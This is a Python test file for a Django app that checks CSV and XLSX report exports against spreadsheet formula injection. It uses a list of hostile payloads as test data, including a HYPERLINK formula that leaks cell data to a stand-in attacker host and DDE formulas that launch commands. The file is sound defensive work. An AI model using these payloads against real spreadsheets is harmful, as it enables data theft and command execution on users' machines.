"""Report exports never hand a spreadsheet a formula someone typed ("CSV injection").

A rep's objection wording ends up in marketing's CSV exports; opened in Excel or
Google Sheets, a cell starting with ``=``, ``+``, ``-`` or ``@`` would run as a formula.
"""

import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from assets.models import Objection
from assets.services import ensure_library
from cms.exports import FORMULA_STARTS, neutralise, restore
from tests.assets.test_reports import csv_rows
from tests.cms.factories import JourneyStageFactory, SegmentFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    '＝HYPERLINK("https://evil.example/")',  # fullwidth forms, which IMEs turn into formulas
    "＋SUM(2,2)",
    "－4＋5",
    "＠SUM(1+1)",
]


@pytest.fixture
def logged(client, rep, cardiology, home_page):
    """Objections logged by a rep through the library form, one per payload."""
    ensure_library(home=home_page)
    stage, segment = JourneyStageFactory(slug="evaluation"), SegmentFactory(slug="employer")
    client.force_login(rep)
    for payload in PAYLOADS:
        response = client.post(
            "/library/objections/log/",
            {
                "verbatim": payload,
                "service_line": cardiology.slug,
                "stage": stage.slug,
                "segment": segment.slug,
                "category": "other",
            },
        )
        assert response.status_code == 302
    client.logout()


@pytest.mark.parametrize(
    "url", ["/admin/library-reports/objections/", "/admin/snippets/assets/objection/"]
)
def test_objection_exports_escape_formulas(client, marketer, logged, url):
    client.force_login(marketer)
    rows = csv_rows(client.get(url, {"export": "csv"}))
    exported = {row["Verbatim"] for row in rows}
    assert len(exported) == len(PAYLOADS)
    for cell in exported:
        assert cell.startswith("'"), cell
    # The wording is all there, behind the apostrophe.
    assert {cell[1:] for cell in exported} == set(
        Objection.objects.values_list("verbatim", flat=True)
    )


def test_xlsx_export_keeps_formulas_as_text(client, marketer, logged):
    client.force_login(marketer)
    response = client.get("/admin/library-reports/objections/", {"export": "xlsx"})
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert cells and not [cell for cell in cells if cell.data_type == "f"]


def test_neutralise_leaves_plain_values_alone():
    assert neutralise("Too expensive") == "Too expensive"
    assert neutralise(3) == 3
    assert neutralise("") == ""
    assert neutralise("=1+1") == "'=1+1"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_is_neutralised_fullwidth_included(start):
    assert neutralise(f"{start}1") == f"'{start}1"
    assert {"＝", "＋", "－", "＠"} <= set(FORMULA_STARTS)


@given(st.text())
def test_restore_undoes_neutralise_for_any_text(value):
    assert restore(neutralise(value)) == value
    assert not neutralise(value).startswith(FORMULA_STARTS)
